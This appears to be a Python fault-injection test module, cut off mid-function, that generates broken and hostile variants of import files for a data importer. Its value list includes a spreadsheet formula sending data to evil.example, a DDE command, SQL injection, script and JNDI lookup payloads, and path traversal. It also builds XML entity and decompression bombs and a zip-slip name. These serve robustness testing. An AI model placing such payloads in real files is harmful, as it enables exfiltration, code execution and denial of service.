# ruff: noqa: E501 - a kind is one line of a table
"""Every kind of broken file: what is done to a sound one, and what must be left of it.

A kind says how many rows the reader must give more or fewer than of the sound file (``rows``; None: nobody can say), and
whether what is staged must be what the sound file stages (``same``). Either way a whole refusal is an answer too, unless ``same``.
"""

import codecs
import csv
import gzip
import io
import json
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from random import Random
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from tests.faults.targets import PACK, Target, parquet, workbook, zipped

Spoil = Callable[[Target, bytes, Random], bytes]
TEXTS = ("csv", "tsv of UTF-16", "jsonl", "json")
TABLES = ("csv", "tsv of UTF-16")
PACKINGS = ("gz", "zst", "zip")


@dataclass(frozen=True)
class Kind:
    """One way to break one file.

    Attributes:
        group: What it belongs to.
        name: What is wrong.
        target: Name of the file's target.
        spoil: The broken content of the sound content.
        place: Puts it there in another way than by writing it.
        rows: Rows more or fewer than the sound file gives, if all is taken; None: unknown.
        same: Whether it means what the sound file means, so that it must be taken and nothing may differ.
    """

    group: str
    name: str
    target: str
    spoil: Spoil
    rows: int | None = None
    same: bool = False
    place: Callable[[Path, bytes], None] | None = None

    def __str__(self) -> str:
        return f"{self.target}: {self.name}"


def kinds() -> list[Kind]:
    """All of them, in the order of the table."""
    return [*_cut(), *_encoded(), *_bytes(), *_lines(), *_foreign(), *_values(), *_csv(), *_jsonl(), *_json(), *_packed(),
            *_workbooks(), *_parquets(), *_folders()]  # fmt: skip


# --- ends too early ---


def _cut() -> Iterator[Kind]:
    shares = {"a tenth": 0.1, "half": 0.5, "nine tenths": 0.9}
    for target in TEXTS:
        yield Kind("cut off", "empty", target, lambda t, c, d: b"")
        yield Kind("cut off", "one byte", target, lambda t, c, d: c[:1])
        for name, share in shares.items():
            yield Kind("cut off", f"{name} of it", target, lambda t, c, d, s=share: c[: int(len(c) * s)])
        yield Kind("cut off", "its last byte", target, lambda t, c, d: c.rstrip()[:-1])
        yield Kind("cut off", "at any place", target, lambda t, c, d: c[: d.randrange(2, len(c) - 2)])
    for target in TABLES:
        yield Kind("cut off", "in the last cell", target, lambda t, c, d: t.encoded(t.text(c).rstrip("\n")[:-1]))
    yield Kind("cut off", "between two lines", "jsonl", lambda t, c, d: _joined(t, _split(t, c)[:-3]), rows=-3)
    yield Kind("cut off", "inside a character", "jsonl", lambda t, c, d: c.replace(b'"locale"', "é".encode()[:1] + b'"locale"', 1)[:
        c.index(b'"locale"') + 1])  # fmt: skip
    yield Kind("cut off", "behind the list of records", "json", lambda t, c, d: c[: c.rstrip().rindex(b"]") + 1])


# --- another encoding than declared ---


def _encoded() -> Iterator[Kind]:
    others = ("latin-1", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "shift_jis", "gb18030", "koi8-r", "cp500")
    for target in TEXTS:
        for encoding in others:
            if target == "tsv of UTF-16" and encoding == "utf-16":
                continue
            yield Kind("encoding", f"written in {encoding}", target, lambda t, c, d, e=encoding: t.text(c).encode(e, "replace"))
        yield Kind("encoding", "characters encoded twice", target, lambda t, c, d: t.encoded(
            t.text(c).encode().decode("latin-1")))  # fmt: skip
    for target in ("csv", "jsonl", "json"):
        yield Kind("encoding", "a byte order mark before it", target, lambda t, c, d: codecs.BOM_UTF8 + c, rows=0, same=True)
        yield Kind("encoding", "two byte order marks", target, lambda t, c, d: codecs.BOM_UTF8 * 2 + c)
        yield Kind("encoding", "the mark of UTF-16 before UTF-8", target, lambda t, c, d: codecs.BOM_UTF16_LE + c)
        yield Kind("encoding", "a byte order mark inside", target, lambda t, c, d: _in_name(t, c, "\ufeff"), rows=0)
        for name, damage in _NO_UTF8.items():
            yield Kind("encoding", f"{name} in a name", target, lambda t, c, d, b=damage: _in_name(t, c, "QQQQ").replace(b"QQQQ", b),
                       rows=0)  # fmt: skip
    yield Kind("encoding", "an odd number of bytes", "tsv of UTF-16", lambda t, c, d: c[:-1])
    yield Kind("encoding", "no byte order mark", "tsv of UTF-16", lambda t, c, d: c[2:])
    yield Kind("encoding", "the other byte order, with its mark", "tsv of UTF-16", lambda t, c, d: (
        codecs.BOM_UTF16_BE + t.text(c).encode("utf-16-be")), rows=0, same=True)  # fmt: skip
    yield Kind("encoding", "half a surrogate pair", "tsv of UTF-16", lambda t, c, d: c.replace(
        _field(t, c, "name").encode("utf-16-le"), b"\x00\xd8", 1))  # fmt: skip


_NO_UTF8 = {
    "a lone continuation byte": b"\x80", "an overlong slash": b"\xc0\xaf", "half a surrogate pair": b"\xed\xa0\x80",
    "a byte that is never used": b"\xff", "half a character": b"\xe7\x8e",
}  # fmt: skip


# --- bytes that no exporter writes ---


def _bytes() -> Iterator[Kind]:
    for target in TEXTS:
        yield Kind("bytes", "NUL bytes of its size", target, lambda t, c, d: bytes(len(c)))
        yield Kind("bytes", "NUL bytes behind it", target, lambda t, c, d: c + bytes(4096))
        yield Kind("bytes", "NUL bytes before it", target, lambda t, c, d: bytes(16) + c)
        yield Kind("bytes", "NUL in a name", target, lambda t, c, d: _in_name(t, c, "\0"))
        yield Kind(
            "bytes",
            "a block of NUL bytes in the middle",
            target,
            lambda t, c, d: c[: len(c) // 2] + bytes(512) + c[len(c) // 2 + 512 :],
        )
        yield Kind("bytes", "noise of its size", target, lambda t, c, d: d.randbytes(len(c)))
        for flipped in (1, 20):
            yield Kind("bytes", f"{flipped} bytes flipped", target, lambda t, c, d, n=flipped: _flipped(c, d, n))


def _flipped(content: bytes, dice: Random, count: int) -> bytes:
    spoilt = bytearray(content)
    for at in (dice.randrange(len(content)) for _ in range(count)):
        spoilt[at] ^= 1 << dice.randrange(8)
    return bytes(spoilt)


# --- lines ---


def _lines() -> Iterator[Kind]:
    for target in ("csv", "tsv of UTF-16", "jsonl"):
        yield Kind("lines", "ends of Windows", target, lambda t, c, d: t.encoded(t.text(c).replace("\n", "\r\n")), rows=0,
                   same=target == "jsonl")  # fmt: skip
        yield Kind("lines", "ends of an old Mac", target, lambda t, c, d: t.encoded(t.text(c).replace("\n", "\r")))
        yield Kind("lines", "ends of every kind", target, lambda t, c, d: t.encoded("".join(
            line + d.choice(("\n", "\r\n")) for line in t.text(c).splitlines())), rows=None)  # fmt: skip
        yield Kind("lines", "empty ones between", target, lambda t, c, d: _joined(t, [
            part for line in _split(t, c) for part in (line, "")]), rows=None)  # fmt: skip
        yield Kind(
            "lines", "100,000 empty ones behind", target, lambda t, c, d: t.encoded(t.text(c) + "\n" * 100_000), rows=0, same=True
        )
        yield Kind("lines", "one of a million blanks", target, lambda t, c, d: t.encoded(t.text(c) + " " * 1_000_000 + "\n"))
        yield Kind("lines", "the last one sent a thousand times", target, lambda t, c, d: t.encoded(
            t.text(c) + (_split(t, c)[-1] + "\n") * 1000), rows=1000)  # fmt: skip
        yield Kind("lines", "a merge conflict", target, lambda t, c, d: _joined(t, [
            *_split(t, c)[:2], "<<<<<<< HEAD", *_split(t, c)[2:4], "=======", ">>>>>>> theirs", *_split(t, c)[4:]]),
            rows=3)  # fmt: skip
    for name, mark in {
        "a line separator": "\u2028",
        "a form feed": "\f",
        "a next line": "\x85",
        "a file separator": "\x1c",
    }.items():
        for target in TEXTS:
            yield Kind("lines", f"{name} in a name", target, lambda t, c, d, m=mark: _in_name(t, c, m), rows=0)


# --- something else under its name ---


def _foreign() -> Iterator[Kind]:
    page = b"<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>\n"
    others = {
        "an error page": page, "an error in JSON": b'{"error": {"code": 429, "message": "Too many requests"}}\n',
        "XML": b'<?xml version="1.0"?><customers><customer id="1"/></customers>\n', "a picture": b"\x89PNG\r\n\x1a\n" + bytes(64),
        "a PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "a program": b"\x7fELF\x02\x01\x01" + bytes(57),
        "an old Excel file": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504), "the word null": b"null\n",
    }  # fmt: skip
    for target in TEXTS:
        for name, content in others.items():
            yield Kind("something else", name, target, lambda t, c, d, b=content: b)
        yield Kind("something else", "its gzip", target, lambda t, c, d: gzip.compress(c, mtime=0))
        yield Kind("something else", "its zip", target, lambda t, c, d: zipped(c))
        yield Kind("something else", "itself twice", target, lambda t, c, d: c + c)


# --- values ---


VALUES = {
    "a formula": '=HYPERLINK("http://evil.example?x="&A1,"ok")', "a command": "+cmd|' /C calc'!A0", "a function": "@SUM(1+1)*cmd",
    "SQL": "Robert'); DROP TABLE staging.record; --", "a script": "<script>alert(1)</script>", "a path": "../../../../etc/passwd",
    "a template": "{{ 7 * 7 }}{% raw %}", "a lookup": "${jndi:ldap://evil.example/a}", "a format": "%s%n%(x)s{0}", "a terminal's colours": "\x1b[2J\x1b[31m",
    "text that runs backwards": "\u202etxt.exe\u202c", "nothing visible": "\u200b\u200c\u2060", "stacked accents": "Z" + "\u0351" * 500,
    "an emoji of a family": "👨\u200d👩\u200d👧\u200d👦" * 50, "no character": "\ufffe\uffff", "the word null": "null", "the word NaN": "NaN", "the word undefined": "undefined",
    "control characters": "\x01\x02\x07\x08\x0b\x7f", "ten thousand words": "na " * 10_000, "120,000 letters": "x" * 120_000,
    "quotes": "\"'`´“”\"\"", "backslashes": "\\\\n\\u0000\\x00\\", "an array of PostgreSQL": '{"a","b",NULL}', "COPY's end": "\\.",
}  # fmt: skip
MOMENTS = {
    "no day": "2026-02-30", "the day zero": "0000-00-00", "year 0": "0000-01-01T00:00:00Z", "year 9999": "9999-12-31T23:59:59Z",
    "year 99999": "99999-01-01", "before Christ": "-4712-01-01", "hour 24": "2026-08-02T24:61:61Z", "the epoch": "0",
    "seconds as large as numbers go": "9" * 30, "a zone that is none": "2026-08-02T10:00:00+99:99", "words": "yesterday, about noon",
}  # fmt: skip


def _values() -> Iterator[Kind]:
    for target in TEXTS:
        for name, value in VALUES.items():
            yield Kind("values", f"{name} in every text of a row", target, lambda t, c, d, v=value: _with(
                t, c, d, dict.fromkeys(("name", "email", "phone"), v)), rows=0)  # fmt: skip
        for name, value in MOMENTS.items():
            yield Kind(
                "values", f"{name} as the time of change", target, lambda t, c, d, v=value: _with(t, c, d, {"moment": v}), rows=0
            )
        for name, value in {"empty": "", "blank": "   ", "of 10,000 letters": "k" * 10_000, "with a line end": "a\nb", "with NUL": "a\0b",
                            "like SQL": "1' OR '1'='1"}.items():  # fmt: skip
            yield Kind("keys", f"a key {name}", target, lambda t, c, d, v=value: _with(t, c, d, {"key": v}),
                       rows=None if name == "with NUL" or target == "json" else 0)  # fmt: skip
        yield Kind(
            "keys",
            "every row with one key",
            target,
            lambda t, c, d: _every(t, c, {"key": "1"}),
            rows=None if target == "json" else 0,
        )
        yield Kind(
            "keys", "no row with a key", target, lambda t, c, d: _every(t, c, {"key": ""}), rows=None if target == "json" else 0
        )
    for target in ("jsonl", "json"):
        for name, value in _OF_JSON.items():
            for role in ("name", "key", "moment"):
                yield Kind("types", f"{name} as {role}", target, lambda t, c, d, v=value, r=role: _with(t, c, d, {r: v}),
                           rows=None if target == "json" and role == "key" else 0)  # fmt: skip


_OF_JSON: dict[str, Any] = {
    "a number": 12345678901234567890, "a float": 1.5e300, "true": True, "null": None, "a list": ["a", ["b"]], "a record": {"a": {"b": 1}}, "half a surrogate pair": "\ud83d",
}  # fmt: skip


# --- tables ---


def _csv() -> Iterator[Kind]:
    for target in TABLES:
        for name, mark in {"semicolons": ";", "bars": "|", "blanks": " ", "carets": "^"}.items():
            yield Kind(
                "tables",
                f"{name} between the fields",
                target,
                lambda t, c, d, m=mark: t.encoded(t.text(c).replace(t.delimiter, m)),
            )
        yield Kind("tables", "no header", target, lambda t, c, d: _joined(t, _split(t, c)[1:]))
        yield Kind("tables", "only a header", target, lambda t, c, d: _joined(t, _split(t, c)[:1]))
        yield Kind("tables", "the header again in the middle", target, lambda t, c, d: _joined(t, [
            *_split(t, c)[:3], _split(t, c)[0], *_split(t, c)[3:]]))  # fmt: skip
        yield Kind("tables", "the header in capitals", target, lambda t, c, d: _header(t, c, str.upper))
        yield Kind(
            "tables",
            "blanks around the header's names",
            target,
            lambda t, c, d: _header(t, c, " {} ".format),
            rows=0,
            same=True,
        )
        yield Kind("tables", "a header without names", target, lambda t, c, d: _header(t, c, lambda n: ""))
        yield Kind("tables", "every column of one name", target, lambda t, c, d: _header(t, c, lambda n: "a"))
        yield Kind("tables", "no key column", target, lambda t, c, d: _without(t, c, "key"))
        yield Kind("tables", "no name column", target, lambda t, c, d: _without(t, c, "name"), rows=0)
        yield Kind("tables", "its columns in another order", target, _reordered, rows=0, same=True)
        yield Kind("tables", "a column more", target, lambda t, c, d: _widened(t, c, 1))
        yield Kind("tables", "100,000 columns", target, lambda t, c, d: _widened(t, c, 100_000))
        yield Kind(
            "tables",
            "a column name of a million letters",
            target,
            lambda t, c, d: _header(t, c, lambda n: n if n in t.fields.values() else "x" * 60_000),
        )
        yield Kind("tables", "a row with a field more", target, lambda t, c, d: _joined(t, [
            *_split(t, c)[:-1], _split(t, c)[-1] + t.delimiter + "x"]), rows=0)  # fmt: skip
        yield Kind("tables", "a row with a field less", target, lambda t, c, d: _joined(t, [
            *_split(t, c)[:-1], _split(t, c)[-1].rpartition(t.delimiter)[0]]), rows=0)  # fmt: skip
        yield Kind("tables", "a quote that is never closed, at first", target, lambda t, c, d: _joined(t, [
            _split(t, c)[0], '"' + _split(t, c)[1], *_split(t, c)[2:]]))  # fmt: skip
        yield Kind("tables", "a quote that is never closed, at last", target, lambda t, c, d: _joined(t, [
            *_split(t, c)[:-1], '"' + _split(t, c)[-1]]))  # fmt: skip
        yield Kind("tables", "a quote in the middle of a field", target, lambda t, c, d: _in_name(t, c, 'a"b', quoted=False))
        yield Kind("tables", "quotes escaped by backslashes", target, lambda t, c, d: _in_name(t, c, 'a \\"b\\" c', quoted=False))
        yield Kind("tables", "every field quoted", target, lambda t, c, d: _quoted(t, c), rows=0, same=True)
        yield Kind("tables", "Excel's line sep= before it", target, lambda t, c, d: t.encoded(f"sep={t.delimiter}\n" + t.text(c)))
        yield Kind("tables", "a title before it", target, lambda t, c, d: t.encoded("Customers of August\n\n" + t.text(c)))
        yield Kind("tables", "a total behind it", target, lambda t, c, d: t.encoded(t.text(c) + "Total: 17 rows\n"), rows=1)
        yield Kind("tables", "a field of a million letters", target, lambda t, c, d: _with(t, c, d, {"name": "x" * 1_000_000}))
        yield Kind("tables", "a field of 20 million letters", target, lambda t, c, d: _with(t, c, d, {"name": "x" * 20_000_000}))


# --- JSON ---


def _jsonl() -> Iterator[Kind]:
    def first(change: Callable[[str], str]) -> Spoil:
        return lambda t, c, d: _joined(t, [change(_split(t, c)[0]), *_split(t, c)[1:]])

    for name, change in _BROKEN_JSON.items():
        yield Kind("JSON", name, "jsonl", first(change), rows=0)
    for name, text in _DEEP.items():
        yield Kind("JSON", f"a field of {name}", "jsonl", first(lambda line, v=text: line[:-1] + f', "x": {v}}}'), rows=0)
    yield Kind("JSON", "a list in place of lines", "jsonl", lambda t, c, d: t.encoded(json.dumps(t.rows(c)) + "\n"))
    yield Kind(
        "JSON", "a list over several lines", "jsonl", lambda t, c, d: t.encoded(json.dumps(t.rows(c)[:5], indent=1) + "\n")
    )
    yield Kind("JSON", "two records on a line", "jsonl", first(lambda line: line + line), rows=0)
    yield Kind("JSON", "a list on a line", "jsonl", first(lambda line: f"[{line}]"), rows=0)
    yield Kind(
        "JSON", "a line of 20 million letters", "jsonl", lambda t, c, d: _with(t, c, d, {"name": "x" * 20_000_000}), rows=0
    )
    yield Kind("JSON", "100,000 fields", "jsonl", first(lambda line: line[:-1] + "".join(
        f', "f{n}": {n}' for n in range(100_000)) + "}"), rows=0)  # fmt: skip


_BROKEN_JSON: dict[str, Callable[[str], str]] = {
    "a comma behind the last field": lambda line: line[:-1] + ",}", "single quotes": lambda line: line.replace('"', "'"),
    "a comment": lambda line: line + " // new", "NaN": lambda line: line[:-1] + ', "x": NaN}', "Infinity": lambda line: line[:-1] + ', "x": -Infinity}',
    "a number of 5,000 digits": lambda line: line[:-1] + f', "x": {"9" * 5000}}}', "a number as large as 1e999": lambda line: line[:-1] + ', "x": 1e999}',
    "a field twice": lambda line: line[:-1] + ', "email": "twice@example.org"}', "a field without a name": lambda line: line[:-1] + ', "": 1}',
    "a field named like Python's own": lambda line: line[:-1] + ', "__class__": {"__init__": 1}}', "a NUL escape": lambda line: line[:-1] + ', "x": "\\u0000"}',
    "half a surrogate pair": lambda line: line[:-1] + ', "x\\ud800": "\\udc00"}', "an unknown escape": lambda line: line[:-1] + ', "x": "\\q"}',
    "a raw tab in a text": lambda line: line[:-1] + ', "x": "\t"}', "an empty record": lambda line: "{}", "a number": lambda line: "17",
    "true": lambda line: "true", "a text": lambda line: '"text"',
}  # fmt: skip
_DEEP = {
    "100 lists in one another": "[" * 100 + "]" * 100, "10,000 lists in one another": "[" * 10_000 + "]" * 10_000,
    "200,000 lists in one another": "[" * 200_000 + "]" * 200_000, "5,000 records in one another": '{"a":' * 5_000 + "1" + "}" * 5_000,
    "100,000 lists that never end": "[" * 100_000,
}  # fmt: skip


def _json() -> Iterator[Kind]:
    def document(change: Callable[[dict[str, Any]], Any]) -> Spoil:
        return lambda t, c, d: json.dumps(change(json.loads(c))).encode()

    yield Kind("JSON", "the list itself", "json", document(lambda doc: doc["users"]))
    yield Kind("JSON", "another name of the list", "json", document(lambda doc: {"people": doc["users"]}))
    yield Kind("JSON", "a record in place of the list", "json", document(lambda doc: {**doc, "users": doc["users"][0]}))
    yield Kind("JSON", "null in place of the list", "json", document(lambda doc: {**doc, "users": None}))
    yield Kind(
        "JSON", "texts in the list", "json", document(lambda doc: {**doc, "users": [*doc["users"], "a", 1, None, [1]]}), rows=4
    )
    yield Kind("JSON", "an empty list", "json", document(lambda doc: {**doc, "users": []}))
    yield Kind("JSON", "the list twice", "json", lambda t, c, d: c.rstrip()[:-1] + b', "users": []}', rows=0)
    yield Kind("JSON", "two documents", "json", lambda t, c, d: c + b"{}")
    yield Kind("JSON", "text behind the document", "json", lambda t, c, d: c + b"done\n")
    yield Kind("JSON", "one line", "json", lambda t, c, d: json.dumps(json.loads(c)).encode(), rows=0, same=True)
    yield Kind("JSON", "a record of 100,000 fields", "json", document(lambda doc: {**doc, "users": [
        {**doc["users"][0], **{f"f{n}": n for n in range(100_000)}}, *doc["users"][1:]]}), rows=0)  # fmt: skip
    for name, change in _BROKEN_JSON.items():
        if name in ("an empty record", "a number", "true", "a text"):
            continue
        yield Kind("JSON", name, "json", lambda t, c, d, f=change: _of_first_user(c, f))
    for name, text in _DEEP.items():
        yield Kind(
            "JSON", f"a field of {name}", "json", lambda t, c, d, v=text: _of_first_user(c, lambda r: r[:-1] + f', "x": {v}}}')
        )


def _of_first_user(content: bytes, change: Callable[[str], str]) -> bytes:
    document = json.loads(content)
    first, *rest = (json.dumps(user) for user in document.pop("users"))
    others = "".join(f', "{name}": {json.dumps(value)}' for name, value in document.items())
    return f'{{"users": [{", ".join([change(first), *rest])}]{others}}}'.encode("utf-8", "surrogatepass")


# --- packed ---


def _packed() -> Iterator[Kind]:
    for target in PACKINGS:

        def again(change: Callable[[bytes], bytes], p: str = target) -> Spoil:
            return lambda t, c, d: change(PACK[p](_unpacked(p, c)))

        yield Kind("packed", "empty", target, lambda t, c, d: b"")
        yield Kind("packed", "not packed at all", target, lambda t, c, d, p=target: _unpacked(p, c))
        yield Kind("packed", "packed nothing", target, lambda t, c, d, p=target: PACK[p](b""))
        yield Kind("packed", "packed twice", target, lambda t, c, d, p=target: PACK[p](c))
        yield Kind("packed", "half of it", target, lambda t, c, d: c[: len(c) // 2])
        yield Kind("packed", "its last byte missing", target, lambda t, c, d: c[:-1])
        yield Kind("packed", "a byte flipped in the middle", target, lambda t, c, d: _flipped_at(c, len(c) // 2))
        yield Kind("packed", "noise behind it", target, lambda t, c, d: c + d.randbytes(64))
        yield Kind("packed", "a packed file that is cut off", target, again(lambda b: b[: len(b) * 3 // 4]))
        for other in PACKINGS:
            if other != target:
                yield Kind("packed", f"packed as {other}", target, lambda t, c, d, p=target, o=other: PACK[o](_unpacked(p, c)))
        yield Kind(
            "packed", "a bomb of one byte over and over", target, lambda t, c, d, p=target: _bomb(p, _unpacked(p, c), b"x")
        )
        yield Kind("packed", "a bomb of empty lines", target, lambda t, c, d, p=target: _bomb(p, _unpacked(p, c), b"\n"))
    yield Kind("packed", "two parts", "gz", lambda t, c, d: _in_two(c), rows=0, same=True)
    yield Kind("packed", "a wrong checksum", "gz", lambda t, c, d: c[:-8] + struct.pack("<I", 1) + c[-4:])
    yield Kind("packed", "two files in it", "zip", lambda t, c, d: zipped(_unpacked("zip", c), "a.csv", "b.csv"))
    yield Kind("packed", "no file in it", "zip", lambda t, c, d: b"PK\x05\x06" + bytes(18))
    yield Kind(
        "packed",
        "a name that leads elsewhere",
        "zip",
        lambda t, c, d: zipped(_unpacked("zip", c), "../../../../tmp/evil.csv"),
        rows=0,
    )
    yield Kind("packed", "a password", "zip", lambda t, c, d: _locked(c))


def _unpacked(packing: str, content: bytes) -> bytes:
    if packing == "gz":
        return gzip.decompress(content)
    if packing == "zip":
        with zipfile.ZipFile(io.BytesIO(content)) as packed:
            return packed.read(packed.namelist()[0])
    return pa.CompressedInputStream(pa.BufferReader(content), "zstd").read()


def _flipped_at(content: bytes, at: int) -> bytes:
    return content[:at] + bytes([content[at] ^ 0x40]) + content[at + 1 :]


def _in_two(content: bytes) -> bytes:
    text = _unpacked("gz", content)
    return gzip.compress(text[:100], mtime=0) + gzip.compress(text[100:], mtime=0)


_BOMBS: dict[tuple[str, bytes], bytes] = {}


def _bomb(packing: str, start: bytes, byte: bytes) -> bytes:
    """400 MB of one byte behind a sound beginning, made once."""
    if (packing, byte) not in _BOMBS:
        _BOMBS[packing, byte] = PACK[packing](start + byte * 400_000_000)
    return _BOMBS[packing, byte]


def _locked(content: bytes) -> bytes:
    """The file with the mark of a password in both of its headers."""
    spoilt = bytearray(content)
    spoilt[6] |= 1
    spoilt[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(spoilt)


# --- workbooks and Parquet ---


def _workbooks() -> Iterator[Kind]:
    def rows(change: Callable[[list[list[str]]], list[list[str]]]) -> Spoil:
        return lambda t, c, d: workbook(change(_sheet(c)))

    yield Kind("workbooks", "a CSV file under its name", "xlsx", lambda t, c, d: b"Response ID,Submitted\n1,2\n")
    yield Kind("workbooks", "half of it", "xlsx", lambda t, c, d: c[: len(c) // 2])
    yield Kind("workbooks", "an empty file", "xlsx", lambda t, c, d: b"")
    yield Kind("workbooks", "no rows", "xlsx", rows(lambda r: []))
    yield Kind("workbooks", "only a header", "xlsx", rows(lambda r: r[:1]))
    yield Kind("workbooks", "no key column", "xlsx", rows(lambda r: [row[1:] for row in r]))
    yield Kind("workbooks", "empty rows before it", "xlsx", rows(lambda r: [[], [], *r]), rows=0, same=True)
    yield Kind("workbooks", "a title before it", "xlsx", rows(lambda r: [["Answers of August"], *r]))
    yield Kind("workbooks", "a row wider than its header", "xlsx", rows(lambda r: [*r, [*r[-1], "x", "y"]]))
    yield Kind(
        "workbooks", "16,000 columns", "xlsx", rows(lambda r: [[*r[0], *(f"c{n}" for n in range(15_900))], *r[1:]]), rows=0
    )
    yield Kind(
        "workbooks", "formulas", "xlsx", rows(lambda r: [r[0], *([row[0], *("=1+1" for _ in row[1:])] for row in r[1:])]), rows=0
    )
    yield Kind(
        "workbooks",
        "errors in its cells",
        "xlsx",
        rows(lambda r: [r[0], *([row[0], row[1], *("#REF!" for _ in row[2:])] for row in r[1:])]),
        rows=0,
    )
    yield Kind("workbooks", "a bomb of entities", "xlsx", lambda t, c, d: _part(c, "xl/sharedStrings.xml", _LAUGHS))
    yield Kind(
        "workbooks",
        "a sheet that is no XML",
        "xlsx",
        lambda t, c, d: _part(c, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row"),
    )
    yield Kind(
        "workbooks",
        "a sheet that unpacks to 400 MB",
        "xlsx",
        lambda t, c, d: _part(c, "xl/worksheets/sheet1.xml", b" " * 400_000_000),
    )
    yield Kind("workbooks", "a part missing", "xlsx", lambda t, c, d: _part(c, "xl/workbook.xml", None))
    yield Kind("workbooks", "an old Excel file", "xlsx", lambda t, c, d: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504))


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>'
)


def _sheet(content: bytes) -> list[list[str]]:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(content))
    return [["" if cell is None else str(cell) for cell in row] for row in book.worksheets[0].iter_rows(values_only=True)]


def _part(content: bytes, name: str, part: bytes | None) -> bytes:
    """The workbook with one of its parts replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            if each != name:
                new.writestr(each, old.read(each))
        if part is not None:
            new.writestr(name, part)
    return out.getvalue()


def _parquets() -> Iterator[Kind]:
    def rows(change: Callable[[list[list[Any]]], list[list[Any]]], **types: pa.DataType) -> Spoil:
        return lambda t, c, d: parquet(change(_table(c)), **types)

    yield Kind("Parquet", "an empty file", "parquet", lambda t, c, d: b"")
    yield Kind("Parquet", "its mark alone", "parquet", lambda t, c, d: b"PAR1PAR1")
    yield Kind("Parquet", "half of it", "parquet", lambda t, c, d: c[: len(c) // 2])
    yield Kind("Parquet", "its last byte missing", "parquet", lambda t, c, d: c[:-1])
    yield Kind(
        "Parquet", "bytes flipped in its data", "parquet", lambda t, c, d: _flipped(c[: len(c) // 3], d, 40) + c[len(c) // 3 :]
    )
    yield Kind("Parquet", "a CSV file under its name", "parquet", lambda t, c, d: b"Response ID,Submitted\n1,2\n")
    yield Kind("Parquet", "no rows", "parquet", rows(lambda r: r[:1]))
    yield Kind("Parquet", "no key column", "parquet", rows(lambda r: [row[1:] for row in r]))
    yield Kind("Parquet", "a column more", "parquet", rows(lambda r: [[*row, "x"] for row in r]), rows=0)
    yield Kind(
        "Parquet",
        "2,000 columns",
        "parquet",
        rows(lambda r: [[*r[0], *(f"c{n}" for n in range(2_000))], *([*row, *[""] * 2_000] for row in r[1:])]),
        rows=0,
    )
    yield Kind(
        "Parquet",
        "whole numbers as names",
        "parquet",
        rows(lambda r: _column(r, "Your name", 17), **{"Your name": pa.int64()}),
        rows=0,
    )
    yield Kind(
        "Parquet",
        "lists as names",
        "parquet",
        rows(lambda r: _column(r, "Your name", ["a", "b"]), **{"Your name": pa.list_(pa.string())}),
        rows=0,
    )
    yield Kind(
        "Parquet",
        "bytes that are no text as names",
        "parquet",
        rows(lambda r: _column(r, "Your name", b"\xff\xfe"), **{"Your name": pa.binary()}),
        rows=0,
    )
    yield Kind("Parquet", "text that is no UTF-8", "parquet", lambda t, c, d: _no_text(c))


def _table(content: bytes) -> list[list[Any]]:
    found = pq.read_table(pa.BufferReader(content))
    return [found.column_names, *([cell or "" for cell in row.values()] for row in found.to_pylist())]


def _column(rows: list[list[Any]], name: str, value: Any) -> list[list[Any]]:
    at = rows[0].index(name)
    return [rows[0], *([*row[:at], value, *row[at + 1 :]] for row in rows[1:])]


def _no_text(content: bytes) -> bytes:
    found = pq.read_table(pa.BufferReader(content))
    name = found.column_names.index("Your name")
    wrong = pa.array([b"\xff\xfe"] * len(found), pa.binary()).view(pa.string())
    out = io.BytesIO()
    pq.write_table(found.set_column(name, "Your name", wrong), out)
    return out.getvalue()


# --- what lies in the folder ---


def _folders() -> Iterator[Kind]:
    def elsewhere(place: Callable[[Path, bytes], None], name: str, target: str = "jsonl", **expected: Any) -> Kind:
        return Kind("folder", name, target, lambda t, c, d: c, place=place, **expected)

    yield elsewhere(lambda path, c: path.mkdir(), "a folder of its name")
    yield elsewhere(lambda path, c: None, "nothing")
    yield elsewhere(lambda path, c: path.symlink_to(path), "a link to itself")
    yield elsewhere(lambda path, c: path.symlink_to(path.parent / "gone"), "a link to nothing")
    yield elsewhere(lambda path, c: path.with_name(path.name.upper()).write_bytes(c), "its name in capitals")
    yield elsewhere(lambda path, c: path.with_name(path.name + ".part").write_bytes(c), "only the part that is still uploading")
    yield elsewhere(lambda path, c: _copies(path, c, b""), "an empty copy sent again")
    yield elsewhere(
        lambda path, c: _copies(path, c[: len(c) // 2], c), "a cut file and a whole copy sent again", rows=0, same=True
    )
    yield elsewhere(lambda path, c: _copies(path, c[: len(c) // 2], c[: len(c) // 3]), "a cut file and a cut copy")
    yield elsewhere(_scope, "a store that is not declared", "csv")


def _copies(path: Path, first: bytes, second: bytes) -> None:
    path.write_bytes(first)
    path.with_name(f"{path.stem}.r2{path.suffix}").write_bytes(second)


def _scope(path: Path, content: bytes) -> None:
    path.write_bytes(content)
    path.with_name("customers_XXX99.csv").write_bytes(content)


# --- how a file is changed ---


def _split(target: Target, content: bytes) -> list[str]:
    return target.text(content).removesuffix("\n").split("\n")


def _joined(target: Target, lines: list[str]) -> bytes:
    return target.encoded("".join(f"{line}\n" for line in lines))


def _field(target: Target, content: bytes, role: str) -> str:
    """A value of that role that is not empty."""
    return next(str(row[target.fields[role]]) for row in target.rows(content) if row[target.fields[role]])


def _with(target: Target, content: bytes, dice: Random, values: dict[str, Any]) -> bytes:
    """One row, any, with other values."""
    rows = target.rows(content)
    rows[dice.randrange(len(rows))].update({target.fields[role]: value for role, value in values.items()})
    return target.written(rows, content)


def _every(target: Target, content: bytes, values: dict[str, Any]) -> bytes:
    rows = target.rows(content)
